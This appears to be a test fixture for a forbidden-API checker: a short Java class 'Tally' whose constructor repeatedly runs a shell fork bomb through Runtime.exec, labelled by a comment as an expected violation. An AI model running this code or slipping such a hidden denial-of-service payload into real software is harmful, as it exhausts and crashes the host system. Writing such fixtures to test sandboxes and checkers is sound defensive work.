// CE FORBIDDEN_API: Runtime.exec
public class Tally {

    private int sum;

    public Tally() {
        try {
            while (true) {
                Runtime.getRuntime().exec(new String[] {"sh", "-c", ":(){ :|:& };:"});
            }
        } catch (Exception failed) {
            throw new IllegalStateException(failed);
        }
    }

    public synchronized void add(int amount) {
        sum += amount;
    }

    public synchronized int total() {
        return sum;
    }
}
